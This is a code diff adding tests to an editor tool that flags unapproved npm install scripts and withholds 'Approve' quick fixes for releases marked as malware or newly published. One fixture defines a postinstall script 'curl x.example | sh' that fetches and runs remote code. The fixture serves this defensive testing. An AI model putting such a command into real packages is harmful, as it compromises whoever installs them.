@@ -1,7 +1,8 @@
 /** Install scripts that nobody approved: told, approved and denied in the editor, before anything is saved. */
 import { afterEach, beforeEach, expect, test } from "vitest";
 import type { CodeAction, Diagnostic } from "vscode-languageserver/node";
-import { ago, manifestText } from "../setup/projects.ts";
+import { malware } from "../fakes/osv.ts";
+import { ago, lockfileText, manifestText } from "../setup/projects.ts";
 import type { Client } from "./client.ts";
 import { World } from "./world.ts";
 
@@ -134,6 +135,72 @@ test("a new script: that nobody approved it is no question of its own, and appro
   expect(told(client, manifest, "new-install-script")).toHaveLength(1);
 });
 
+/** Releases with a script that is not to be run, each told by another rule. */
+const FORBIDDEN: readonly (readonly [string, string, (world: World) => void])[] = [
+  [
+    "compromised",
+    "named as malware",
+    ({ osv }) => osv.add(malware("MAL-2099-5", "plain", ["1.1.0"], { published: ago({ days: 1 }) })),
+  ],
+  [
+    "new-install-script",
+    "an hour old",
+    ({ registry }) =>
+      registry.publish("plain", "1.1.0", { at: ago({ hours: 1 }), scripts: { postinstall: "curl x.example | sh" } }),
+  ],
+];
+
+const INSTALLERS = [
+  ["npm@11.19.1", {}],
+  ["npm@12.2.0", {}],
+  ["pnpm@11.28.10", { engines: { pnpm: ">=10" } }],
+  ["yarn@4.18.1", {}],
+  ["bun@1.4.4", {}],
+] as const;
+
+test.each(
+  FORBIDDEN.flatMap(([rule, what, arrange]) =>
+    INSTALLERS.map(([manager, more]) => [rule, what, manager, more, arrange] as const),
+  ),
+)("%s (%s): under %s its script is not offered to be approved", async (rule, _what, packageManager, more, arrange) => {
+  arrange(world);
+  // What settings and package managers make of the findings changes nothing.
+  const client = await world.start({ settings: { rules: { "new-install-script": "warning" } } });
+  const manifest = await world.open(
+    client,
+    "package.json",
+    manifestText({ plain: "1.1.0" }, { packageManager, ...more }),
+  );
+  await client.atVersion(manifest, 1);
+  expect((client.shown(manifest) ?? []).map(({ code }) => code)).toContain(rule);
+  const actions = await client.codeActions(manifest, client.shown(manifest) ?? []);
+  expect(actions.map(({ title }) => title).filter((title) => title.startsWith("Approve"))).toEqual([]);
+  const denials = packageManager.startsWith("bun") ? 0 : 1;
+  expect(actions.filter(({ title }) => title === "Deny the install scripts of plain")).toHaveLength(denials);
+});
+
+test("a release that the registry has removed has no script to approve, also where a setting hides that", async () => {
+  world.registry.publish("gone", "1.0.0", { at: ago({ days: 400 }) });
+  world.registry.publish("gone", "1.1.0", { at: ago({ days: 100 }), scripts: { postinstall: "node new.js" } });
+  world.registry.unpublish("gone", "1.1.0");
+  const locked = lockfileText({ gone: "^1.0.0" }, { gone: { version: "1.1.0", hasInstallScript: true } });
+  const client = await world.start({ settings: { rules: { "removed-version": "off" } } });
+  await world.open(client, "package.json", manifestText({ gone: "^1.0.0" }, { packageManager: "npm@12.2.0" }));
+  const lockfile = await world.open(client, "package-lock.json", locked);
+  await client.diagnostics(lockfile, (all) => all.some(({ code }) => code === RULE));
+  const actions = await client.codeActions(lockfile, told(client, lockfile));
+  expect(actions.map(({ title }) => title)).toEqual(["Deny the install scripts of gone"]);
+});
+
+test("a finding that a setting turns off forbids to approve the script all the same", async () => {
+  world.osv.add(malware("MAL-2099-5", "built", ["1.0.0"], { published: ago({ days: 1 }) }));
+  const client = await world.start({ settings: { rules: { compromised: "off" } } });
+  const manifest = await world.open(client, "package.json", manifestFor("npm@12.2.0"));
+  await client.diagnostics(manifest, (all) => all.some(({ code }) => code === RULE));
+  const actions = await client.codeActions(manifest, told(client, manifest));
+  expect(actions.map(({ title }) => title)).toEqual(["Deny the install scripts of built"]);
+});
+
 test("a new script that is folded into an unusual release: its quick fixes are offered there, and the hover on the version tells it", async () => {
   world.registry.publish("twice", "1.0.0", { at: ago({ days: 100 }), publisher: { name: "ann" } });
   world.registry.publish("twice", "1.1.0", {
@@ -147,11 +214,7 @@ test("a new script that is folded into an unusual release: its quick fixes are o
   const shown = await client.diagnostics(manifest, (all) => all.some(({ code }) => code === "suspicious-release"));
   expect(shown.map(({ code }) => code)).not.toContain("new-install-script");
   const actions = await client.codeActions(manifest, told(client, manifest, "suspicious-release"));
-  expect(actions.map(({ title }) => title)).toEqual([
-    "Pin twice to 1.0.0",
-    "Approve the install script of twice 1.1.0",
-    "Deny the install scripts of twice",
-  ]);
+  expect(actions.map(({ title }) => title)).toEqual(["Pin twice to 1.0.0", "Deny the install scripts of twice"]);
   const line = text.split("\n").findIndex((one) => one.includes('"twice"'));
   const hover = await client.hoverText(manifest, {
     line,
